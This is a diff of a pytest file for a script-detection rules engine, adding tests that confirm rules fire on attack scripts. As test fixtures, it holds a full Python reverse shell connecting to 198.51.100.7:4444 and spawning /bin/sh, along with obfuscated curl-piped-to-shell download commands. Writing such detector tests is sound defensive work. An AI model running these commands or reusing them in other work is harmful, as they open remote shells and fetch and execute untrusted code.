@@ -5,10 +5,12 @@ collector/rules/context.py): which argv runs a script, which of its lines are re
 from __future__ import annotations
 
 import subprocess
+from pathlib import Path
 
 import pytest
 
 from agent.config_peek import MAX_SCRIPT_LINES, ConfigPeek, script_lines
+from collector.rules.context import with_here_documents
 from gpuguard.scripts import script_of
 from tests.test_benign_commands import ENGINE, LINES
 from tests.test_rule_corpus import exec_event
@@ -69,6 +71,13 @@ def test_a_variable_set_on_one_line_is_read_where_another_uses_it():
     assert "download-piped-to-shell" in fired_for_script(["a=cu", "b=rl", "$a$b -s http://198.51.100.7/x | sh"])
 
 
+def test_a_here_document_is_read_with_the_command_that_reads_it():
+    code = ["python3 - <<'PY'", "import socket,subprocess,os", "s=socket.socket();s.connect(('198.51.100.7',4444))",
+            "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])", "PY", "echo done"]
+    assert "socket-wired-to-shell-in-code" in fired_for_script(code)
+    assert with_here_documents(["cat > f <<EOF", "a", "EOF", "b"]) == ["cat > f <<EOF ; a ; EOF", "b"]
+
+
 def test_lines_of_a_config_file_are_not_read_as_a_script():
     ev = exec_event({"argv": ["./x", "-c", "run.sh"], "config_lines": ["run.sh:1: curl -s http://198.51.100.7/x | sh"]})
     assert "download-piped-to-shell" not in {m.rule.id for m in ENGINE.evaluate("node-1", ev, None)}
@@ -78,3 +87,14 @@ def test_ordinary_commands_as_scripts_raise_nothing():
     """The benign corpus's command lines, twenty to a script: no rule pattern spans two lines of a script."""
     for i in range(0, len(LINES), 20):
         assert not fired_for_script(LINES[i:i + 20]), LINES[i:i + 20]
+
+
+ATTACK_SCRIPTS = sorted((Path(__file__).parent / "corpus" / "attack_scripts").glob("*.sh"))
+
+
+@pytest.mark.parametrize("path", ATTACK_SCRIPTS, ids=lambda p: p.name)
+def test_attack_scripts_raise_something(path):
+    """Scripts of a held-out pass (never run: read as the agent reads them) stay caught."""
+    lines = script_lines(path.name, path.read_bytes())
+    ev = exec_event({"argv": ["/bin/bash", path.name], "exe": "/usr/bin/bash", "config_lines": lines})
+    assert {m.rule.id for m in ENGINE.evaluate("node-1", ev, None)}, path.read_text()
